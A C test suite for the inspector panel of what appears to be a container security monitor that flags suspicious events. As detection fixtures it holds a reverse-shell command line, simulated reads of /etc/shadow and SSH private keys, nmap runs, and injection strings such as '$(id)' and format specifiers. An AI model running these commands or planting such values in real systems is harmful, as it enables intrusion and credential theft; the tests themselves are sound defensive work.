/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <adwaita.h>
#include <string.h>

#include "core/text.h"
#include "ui/inspector-list.h"

#include "inspector-check.h"

static void
test_empty (InspectorCheck *f, gconstpointer data)
{
  inspector_check_assert_reads (f, "\nNothing selected\n");
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_assert_reads_not (f, "Nothing selected");
  porthole_selection_clear (f->selection);
  inspector_check_assert_reads (f, "\nNothing selected\n");
  porthole_selection_set_node (f->selection, "peer:203.0.113.99");
  inspector_check_assert_reads (f, "No longer known");
}

static void
fill (InspectorCheck *f)
{
  inspector_check_run (f, 1010, "/usr/bin/curl -s http://db");
  inspector_check_call (f, "198.51.100.3", 80, "established");
  inspector_check_call (f, "203.0.113.7", 23, "refused");
  inspector_check_read_file (f, "/etc/shadow", "ok");
}

static void
test_container (InspectorCheck *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, WEB);

  inspector_check_assert_reads (f, "\nweb\nexample/app:1\nrunning · under a minute\n");
  inspector_check_assert_reads (f, "\nWhy\n2\nPassword hashes read\n");
  inspector_check_assert_reads (f, "\ncat read /etc/shadow\nPassword hashes read\n");
  inspector_check_assert_reads (f, "\n/usr/bin/curl -s http://db\n");
  inspector_check_assert_reads (f, "\ndb\ntcp 80 · 1 established\n");
  inspector_check_assert_reads (f, "\n/etc/shadow\nread · ok · cat\n");
  inspector_check_assert_reads (f, "\nFull id\n" WEB "\n");
  /* what is not known is said so */
  inspector_check_assert_reads (f, "\nProject\nunknown\n");
  inspector_check_assert_reads (f, "\nPod\nunknown\n");
}

static void
test_claimed (InspectorCheck *f, gconstpointer data)
{
  g_autoptr (PortholeContainer) fake = porthole_container_new ("claimed");

  fake->claimed = TRUE;
  fake->owner = 1000;
  fake->name = g_strdup ("web");
  porthole_session_take_container (f->session, fake);
  porthole_selection_set_node (f->selection, "claimed");
  inspector_check_assert_reads (
      f, "\nimage unknown\nstate unknown · age unknown · name only claimed\n");
  inspector_check_assert_reads (f, "only what user 1000 claims");
  inspector_check_assert_reads (f, "\nNothing was found.\n");
}

static void
test_peer (InspectorCheck *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, "peer:203.0.113.7");
  inspector_check_assert_reads (f, "\n203.0.113.7\n");
  inspector_check_assert_reads (f, "\nWho talks to it\nweb\ntcp 23 · 1 refused\n");
  inspector_check_assert_reads (f, "\nName\nunknown\n");
  inspector_check_assert_reads (f, "\nBlocked\nno\n");
  inspector_check_assert_reads (f, "T1021");
}

static void
test_edge (InspectorCheck *f, gconstpointer data)
{
  const char *source, *target;

  fill (f);
  porthole_selection_set_edge (f->selection, WEB, "peer:203.0.113.7");
  inspector_check_assert_reads (f, "→");
  inspector_check_assert_reads (f, "\ntcp 23 · 1 connection\n");
  inspector_check_assert_reads (f, "\ncurl → tcp 23\n1 refused · 203.0.113.7\n");
  inspector_check_assert_reads (f, "\nBytes\nunknown\n");

  /* both ends lead on, and their rows to the edge again */
  porthole_inspector_row_activate (inspector_check_find_row (f, "203.0.113.7"));
  g_assert_true (porthole_selection_has_node (f->selection, "peer:203.0.113.7"));
  inspector_check_settle (f);
  porthole_inspector_row_activate (inspector_check_find_row (f, "web"));
  g_assert_true (porthole_selection_get_edge (f->selection, &source, &target));
  g_assert_cmpstr (source, ==, WEB);
  inspector_check_settle (f);
  porthole_inspector_row_activate (inspector_check_find_row (f, "web"));
  g_assert_true (porthole_selection_has_node (f->selection, WEB));
}

static void
test_event_and_finding (InspectorCheck *f, gconstpointer data)
{
  PortholeInspectorRow *row;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  porthole_inspector_row_activate (inspector_check_find_row (f, "cat read /etc/shadow"));
  g_assert_cmpint (porthole_selection_get_kind (f->selection), ==, PORTHOLE_SELECTION_FINDING);
  inspector_check_assert_reads (f, "\nPassword hashes read\nFinding · ");
  inspector_check_assert_reads (f, "T1003.008 /etc/passwd and /etc/shadow: Takes the hashes");
  inspector_check_assert_reads (f, "\nRule\nshadow\n");
  inspector_check_settle (f);
  porthole_inspector_row_activate (inspector_check_find_row (f, "web"));
  inspector_check_settle (f);

  row = inspector_check_find_row (f, "/etc/shadow");
  porthole_inspector_row_activate (row);
  g_assert_true (porthole_inspector_row_get_open (row));
  inspector_check_assert_reads (f, "\nOpened by\ncat\n");
  inspector_check_settle (f);
  inspector_check_press (f, "Show event");
  g_assert_cmpint (porthole_selection_get_kind (f->selection), ==, PORTHOLE_SELECTION_EVENT);
  inspector_check_assert_reads (f, "\ncat read /etc/shadow\nopen · ");
  inspector_check_assert_reads (f, "\nAccess\nread\n");
  inspector_check_assert_reads (f, "\nRules\nshadow\n");
  inspector_check_assert_reads (f, "\nPid outside\n1011\n");
}

static void
test_nodes (InspectorCheck *f, gconstpointer data)
{
  g_autoptr (GPtrArray) ids = g_ptr_array_new ();

  fill (f);
  g_ptr_array_add (ids, (gpointer)WEB);
  g_ptr_array_add (ids, (gpointer)DB);
  porthole_selection_set_nodes (f->selection, ids);
  inspector_check_assert_reads (f, "\n2 selected\n");
  inspector_check_assert_reads (f, "\nBetween them\n\xe2\x81\xa8web\xe2\x81\xa9 → \xe2\x81\xa8"
                                   "db\xe2\x81\xa9\ntcp 80 · 1 established\n");
}

/* where nothing happens nothing waits to be done */
static void
test_rests (InspectorCheck *f, gconstpointer data)
{
  GMainContext *context = g_main_context_default ();
  GPollFD fds[32];
  int priority, timeout;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  g_assert_true (g_main_context_acquire (context));
  g_main_context_prepare (context, &priority);
  g_main_context_query (context, priority, &timeout, fds, G_N_ELEMENTS (fds));
  g_main_context_release (context);
  g_assert_true (timeout < 0 || timeout > 120000);
}

/* what happens is read soon, what is open stays open, and nothing is looked at while paused */
static void
test_live (InspectorCheck *f, gconstpointer data)
{
  PortholeInspectorRow *row;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  row = inspector_check_find_row (f, "/etc/shadow");
  porthole_inspector_row_activate (row);

  inspector_check_call (f, "198.51.100.3", 443, "refused");
  inspector_check_read_file (f, "/etc/shadow", "ok");
  inspector_check_assert_reads_not (f, "tcp 80, 443");
  inspector_check_settle (f);
  inspector_check_assert_reads (f, "\ndb\ntcp 80, 443 · 1 established, 1 refused\n");
  inspector_check_assert_reads (f, "\nCount\n2\n");
  g_assert_true (inspector_check_find_row (f, "/etc/shadow") == row);
  g_assert_true (porthole_inspector_row_get_open (row));

  porthole_watch_set_paused (f->watch, TRUE);
  inspector_check_call (f, "198.51.100.3", 8080, "refused");
  inspector_check_settle (f);
  inspector_check_assert_reads_not (f, "8080");
  porthole_watch_set_paused (f->watch, FALSE);
  inspector_check_assert_reads (f, "tcp 80, 443, 8080");

  /* another selection begins anew */
  porthole_selection_set_node (f->selection, DB);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  g_assert_false (porthole_inspector_row_get_open (inspector_check_find_row (f, "/etc/shadow")));
}

static void
test_filter (InspectorCheck *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_assert_reads (f, "\n203.0.113.7\n");
  porthole_filter_set_query (f->filter, "port:80");
  inspector_check_assert_reads_not (f, "\n203.0.113.7\n");
  inspector_check_assert_reads (f, "\n1 hidden by the filter\n");
  inspector_check_assert_reads (f, "\ndb\ntcp 80");
  porthole_filter_set_query (f->filter, "");
  inspector_check_assert_reads (f, "\n203.0.113.7\n");
}

static void
test_copy (InspectorCheck *f, gconstpointer data)
{
  g_autofree char *row = NULL;
  g_autofree char *json = NULL;
  g_autofree char *edge = NULL;
  g_auto (GStrv) lines = NULL;
  GtkWidget *widget;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  widget = GTK_WIDGET (inspector_check_find_row (f, "/etc/shadow"));
  g_assert_true (gtk_widget_grab_focus (gtk_widget_get_parent (widget)));
  gtk_widget_activate_action (GTK_WIDGET (f->inspector), "inspector.copy-row", NULL);
  row = inspector_check_read_clipboard (f);
  g_assert_true (g_str_has_prefix (row, "/etc/shadow\nread · ok · cat\nPath: /etc/shadow\n"));

  gtk_widget_activate_action (GTK_WIDGET (f->inspector), "inspector.copy-json", NULL);
  json = inspector_check_read_clipboard (f);
  g_assert_true (g_str_has_prefix (json, "{\"type\":\"container\",\"time\":\""));
  g_assert_nonnull (strstr (json, "{\"type\":\"finding\""));
  lines = g_strsplit (g_strchomp (json), "\n", -1);
  g_assert_true (g_str_has_prefix (lines[g_strv_length (lines) - 1], "{\"nodes\":[{\"id\":\"" WEB));

  porthole_selection_set_edge (f->selection, WEB, DB);
  edge = porthole_inspector_dup_json (f->inspector);
  g_assert_nonnull (strstr (edge, "\"edges\":[{\"source\":\"" WEB "\",\"target\":\"" DB "\""));
}

/* Tab and the arrows come to every row and button, and Enter does what a click does */
static void
test_keyboard (InspectorCheck *f, gconstpointer data)
{
  g_autoptr (GHashTable) seen = g_hash_table_new (NULL, NULL);
  g_autoptr (GPtrArray) rows = NULL;
  GtkWidget *focus;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  gtk_window_set_focus (GTK_WINDOW (f->window), NULL);
  while (gtk_widget_child_focus (f->window, GTK_DIR_TAB_FORWARD))
    {
      focus = gtk_root_get_focus (GTK_ROOT (f->window));
      if (!g_hash_table_add (seen, focus))
        break;
      while (gtk_widget_get_ancestor (focus, GTK_TYPE_LIST_BOX) != NULL
             && gtk_widget_child_focus (gtk_widget_get_ancestor (focus, GTK_TYPE_LIST_BOX),
                                        GTK_DIR_DOWN))
        {
          focus = gtk_root_get_focus (GTK_ROOT (f->window));
          if (!g_hash_table_add (seen, focus))
            break;
        }
    }
  rows = inspector_check_list_rows (f);
  g_assert_cmpuint (rows->len, >, 8);
  for (guint i = 0; i < rows->len; i++)
    g_assert_true (g_hash_table_contains (seen, gtk_widget_get_parent (rows->pdata[i])));

  focus = gtk_widget_get_parent (GTK_WIDGET (inspector_check_find_row (f, "/etc/shadow")));
  g_assert_true (gtk_widget_grab_focus (focus));
  g_assert_true (gtk_widget_activate (focus));
  inspector_check_assert_reads (f, "\nOpened by\ncat\n");
}

/* five rows, then all, and the same row stays where it was */
static void
test_show_all (InspectorCheck *f, gconstpointer data)
{
  for (guint i = 1; i <= 7; i++)
    {
      g_autofree char *ip = g_strdup_printf ("203.0.113.%u", i);

      inspector_check_call (f, ip, 443, "established");
    }
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  inspector_check_assert_reads (f, "\n203.0.113.5\n");
  inspector_check_assert_reads_not (f, "\n203.0.113.6\n");
  inspector_check_press (f, "Show all 7");
  inspector_check_assert_reads (f, "\n203.0.113.7\n");
  inspector_check_press (f, "Show fewer");
  inspector_check_assert_reads_not (f, "\n203.0.113.6\n");
}

static void
count_cb (guint *n)
{
  ++*n;
}

/* of ten thousand, only what is seen becomes a row */
static void
test_many (InspectorCheck *f, gconstpointer data)
{
  g_autoptr (GPtrArray) rows = NULL;
  g_autoptr (GPtrArray) later = NULL;
  PortholeInspectorList *list;
  PortholeInspectorModel *model;
  GtkAdjustment *adjustment;
  guint described;
  guint n_changes = 0;

  for (guint i = 0; i < 10000; i++)
    {
      g_autofree char *ip = g_strdup_printf ("203.0.%u.%u", i / 250, i % 250);

      inspector_check_call (f, ip, 443, "established");
    }
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  inspector_check_press (f, "Show all 10000");
  inspector_check_settle (f);
  inspector_check_take_picture (f, "list");
  list = PORTHOLE_INSPECTOR_LIST (
      inspector_check_find_widget (GTK_WIDGET (f->inspector), PORTHOLE_TYPE_INSPECTOR_LIST, NULL));
  g_assert_nonnull (list);
  inspector_check_assert_reads (f, "\nPeers\n10000\n");
  rows = inspector_check_list_rows (f);
  g_assert_cmpuint (rows->len, >, 5);
  g_assert_cmpuint (rows->len, <, 500);

  /* it stays where it was scrolled to, and another look makes no more than that anew */
  adjustment = gtk_scrolled_window_get_vadjustment (GTK_SCROLLED_WINDOW (
      inspector_check_find_widget (GTK_WIDGET (list), GTK_TYPE_SCROLLED_WINDOW, NULL)));
  gtk_adjustment_set_value (adjustment, 5000);
  inspector_check_settle (f);
  g_assert_cmpfloat (gtk_adjustment_get_value (adjustment), >, 4000);
  model = porthole_inspector_section_get_model (porthole_inspector_list_get_section (list));
  g_signal_connect_swapped (model, "items-changed", G_CALLBACK (count_cb), &n_changes);
  described = porthole_inspector_model_get_n_described (model);
  inspector_check_call (f, "203.0.0.1", 443, "established");
  inspector_check_settle (f);
  g_assert_cmpuint (n_changes, ==, 1); /* it is called twice as often, and has come to the top */
  inspector_check_call (f, "203.0.0.1", 443, "established");
  inspector_check_settle (f);
  g_assert_cmpuint (n_changes, ==, 1);
  inspector_check_call (f, "203.0.39.249", 443, "established");
  inspector_check_settle (f);
  g_assert_cmpuint (n_changes, ==, 2);
  g_assert_cmpuint (porthole_inspector_model_get_n_described (model) - described, <, 2000);
  g_assert_cmpfloat (gtk_adjustment_get_value (adjustment), >, 4000);
  later = inspector_check_list_rows (f);
  g_assert_cmpuint (later->len, <, 500);

  gtk_widget_activate_action (GTK_WIDGET (f->inspector), "inspector.back", NULL);
  inspector_check_settle (f);
  inspector_check_assert_reads (f, "\nIdentity\n");
}

static void
assert_inert (InspectorCheck *f)
{
  g_autofree char *text = inspector_check_read_all (f);

  g_assert_true (g_utf8_validate (text, -1, NULL));
  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      /* of its own are the ends of lines above, and what isolates a name */
      g_assert_true (c == '\n' || c == 0x2068 || c == 0x2069 || porthole_text_is_inert (c));
    }
}

static void
select_all_kinds (InspectorCheck *f)
{
  g_autoptr (GPtrArray) findings = g_ptr_array_ref (porthole_session_get_findings (f->session));
  g_autoptr (GPtrArray) edges = porthole_graph_get_edges (porthole_session_get_graph (f->session));

  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  assert_inert (f);
  for (guint i = 0; i < findings->len; i++)
    {
      porthole_selection_set_finding (f->selection, findings->pdata[i]);
      assert_inert (f);
    }
  for (guint i = 0; i < edges->len; i++)
    {
      const PortholeEdge *edge = edges->pdata[i];

      porthole_selection_set_edge (f->selection, edge->source->id, edge->target->id);
      assert_inert (f);
      porthole_selection_set_node (f->selection, edge->target->id);
      assert_inert (f);
    }
  inspector_check_settle (f);
}

static void
test_hostile (InspectorCheck *f, gconstpointer data)
{
  static const char *const names[] = {
    "<b>bold</b>&amp;<span size='999999'>x",
    "\xe2\x80\xae"
    "gpj.exe\xe2\x80\xac\xe2\x81\xa6x",
    "a\nb\tc\x1b[31md\x07",
    "\\xff\\xfe\\\\",
    "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
    "%s%n%d {name} $(id)",
  };
  g_autofree char *huge = g_strnfill (65536, 'W');

  for (guint i = 0; i <= G_N_ELEMENTS (names); i++)
    {
      const char *name = i < G_N_ELEMENTS (names) ? names[i] : huge;
      g_autoptr (PortholeContainer) web = inspector_check_new_container (WEB, name, "198.51.100.2");
      g_autofree char *path = g_strconcat ("/", name, "/.ssh/id_rsa", NULL);
      g_autofree char *args = g_strdup_printf ("/usr/bin/nmap %s", name);
      PortholeEvent *event = inspector_check_new_event (PORTHOLE_EVENT_CONNECT, 1010, name, NULL);

      g_free (web->image);
      web->image = g_strdup (name);
      g_free (web->state);
      web->state = g_strdup (name);
      web->labels = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
      g_hash_table_insert (web->labels, g_strdup (name), g_strdup (name));
      porthole_session_take_container (f->session, web);
      inspector_check_take (
          f, inspector_check_new_event (PORTHOLE_EVENT_EXEC, 1020 + i, "/usr/bin/nmap", args));
      inspector_check_read_file (f, path, name);
      event->peer = porthole_peer_new ("203.0.113.9", 23, "tcp");
      event->peer->name = g_strdup (name);
      event->result = g_strdup ("refused");
      event->outcomes = 1;
      inspector_check_take (f, event);
      porthole_selection_set_edge (f->selection, WEB, "peer:203.0.113.9");
      assert_inert (f);
      porthole_selection_set_node (f->selection, WEB);
      assert_inert (f);
    }
  select_all_kinds (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_take_picture (f, "hostile");
  /* none makes the panel wider than it may be */
  g_assert_cmpint (gtk_widget_get_width (GTK_WIDGET (f->inspector)), ==, 340);
}

static void
test_hostile_text (InspectorCheck *f, gconstpointer data)
{
  g_autoptr (PortholeContainer) web = inspector_check_new_container (WEB,
                                                                     "<b>a</b>\n\xe2\x80\xae"
                                                                     "b",
                                                                     "198.51.100.2");

  porthole_session_take_container (f->session, web);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_assert_reads (f, "\n<b>a</b>\\x0a\\u202eb\n");
}

static void
test_widths (InspectorCheck *f, gconstpointer data)
{
  int minimum;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  gtk_widget_measure (GTK_WIDGET (f->inspector), GTK_ORIENTATION_HORIZONTAL, -1, &minimum, NULL,
                      NULL, NULL);
  g_assert_cmpint (minimum, <=, 300);
  gtk_widget_set_direction (GTK_WIDGET (f->inspector), GTK_TEXT_DIR_RTL);
  inspector_check_settle (f);
  inspector_check_assert_reads (f, "\nweb\n");
}

static const char *
find_container (InspectorCheck *f, const char *name)
{
  g_autoptr (GPtrArray) containers
      = porthole_session_get_containers (porthole_watch_get_session (f->watch));

  for (guint i = 0; i < containers->len; i++)
    {
      const PortholeContainer *container = containers->pdata[i];

      if (g_strcmp0 (container->name, name) == 0)
        return container->id;
    }
  g_assert_not_reached ();
}

/* each kind of selection, of the recording that is shipped */
static void
test_demo (InspectorCheck *f, gconstpointer data)
{
  g_autoptr (GFile) file = g_file_new_for_path (g_getenv ("PORTHOLE_TEST_DEMO_RECORDING"));
  g_autoptr (GPtrArray) ids = g_ptr_array_new ();
  GPtrArray *findings;
  const char *attacker, *web;

  porthole_watch_replay (f->watch, file, PORTHOLE_REPLAY_FAST);
  while (porthole_watch_get_state (f->watch) != PORTHOLE_WATCH_REPLAYED)
    g_main_context_iteration (NULL, TRUE);
  attacker = find_container (f, "porthole-demo-attacker");
  web = find_container (f, "porthole-demo-web");
  inspector_check_take_picture (f, "empty");

  porthole_selection_set_node (f->selection, attacker);
  inspector_check_assert_reads (f, "\nShell with its input on a network socket\nT1059.004 · ");
  inspector_check_take_picture (f, "attacker");
  porthole_inspector_row_activate (
      inspector_check_find_row (f, "Shell with its input on a network socket"));
  inspector_check_assert_reads (f, "bash -c bash -i >& /dev/tcp/web/4444 0>&1 (pid ");
  inspector_check_take_picture (f, "why");
  porthole_selection_set_node (f->selection, web);
  inspector_check_assert_reads (f, "\nNetwork tool started\nT1095 · ");
  inspector_check_take_picture (f, "web");
  porthole_selection_set_node (f->selection, "peer:198.51.100.1");
  inspector_check_assert_reads (f, "\nporthole-demo-attacker\ntcp ");
  inspector_check_take_picture (f, "peer");
  porthole_selection_set_edge (f->selection, attacker, web);
  inspector_check_assert_reads (f, "\nnmap → tcp 22\n");
  inspector_check_take_picture (f, "edge");
  findings = porthole_session_get_findings (porthole_watch_get_session (f->watch));
  porthole_selection_set_finding (f->selection, findings->pdata[0]);
  inspector_check_assert_reads (f, "\nScan or attack tool started\nFinding · ");
  inspector_check_take_picture (f, "finding");
  porthole_inspector_row_activate (inspector_check_find_row (f, "porthole-demo-attacker"));
  inspector_check_settle (f);
  porthole_inspector_row_activate (inspector_check_find_row (f, "cat started"));
  inspector_check_assert_reads (f, "\ncat started\nexec · ");
  inspector_check_take_picture (f, "event");
  g_ptr_array_add (ids, (gpointer)attacker);
  g_ptr_array_add (ids, (gpointer)web);
  g_ptr_array_add (ids, (gpointer) "peer:198.51.100.1");
  porthole_selection_set_nodes (f->selection, ids);
  inspector_check_assert_reads (f, "\n3 selected\n");
  inspector_check_take_picture (f, "nodes");

  gtk_widget_set_default_direction (GTK_TEXT_DIR_RTL);
  porthole_selection_set_node (f->selection, web);
  inspector_check_take_picture (f, "rtl");
  porthole_selection_set_edge (f->selection, attacker, web);
  inspector_check_take_picture (f, "rtl-edge");
  gtk_widget_set_default_direction (GTK_TEXT_DIR_LTR);
  porthole_selection_set_node (f->selection, attacker);
  gtk_window_set_default_size (GTK_WINDOW (f->window), 300, 800);
  inspector_check_take_picture (f, "narrow");
}

/* a session that ends gives way to the next, of which nothing of the old one is told */
static void
test_new_session (InspectorCheck *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  inspector_check_settle (f);
  porthole_watch_clear (f->watch);
  inspector_check_settle (f);
  inspector_check_assert_reads_not (f, "/etc/shadow");
  inspector_check_assert_reads (f, "No longer known");
}

#define ADD(path, test)                                                                            \
  g_test_add ("/ui/inspector/" path, InspectorCheck, NULL, inspector_check_set_up, test,           \
              inspector_check_tear_down)

int
main (int argc, char *argv[])
{
  ui_init (&argc, &argv);

  ADD ("empty", test_empty);
  ADD ("container", test_container);
  ADD ("claimed", test_claimed);
  ADD ("peer", test_peer);
  ADD ("edge", test_edge);
  ADD ("event-and-finding", test_event_and_finding);
  ADD ("nodes", test_nodes);
  ADD ("live", test_live);
  ADD ("rests", test_rests);
  ADD ("filter", test_filter);
  ADD ("copy", test_copy);
  ADD ("keyboard", test_keyboard);
  ADD ("show-all", test_show_all);
  ADD ("many", test_many);
  ADD ("hostile", test_hostile);
  ADD ("hostile-text", test_hostile_text);
  ADD ("widths", test_widths);
  ADD ("demo", test_demo);
  ADD ("new-session", test_new_session);

  return g_test_run ();
}
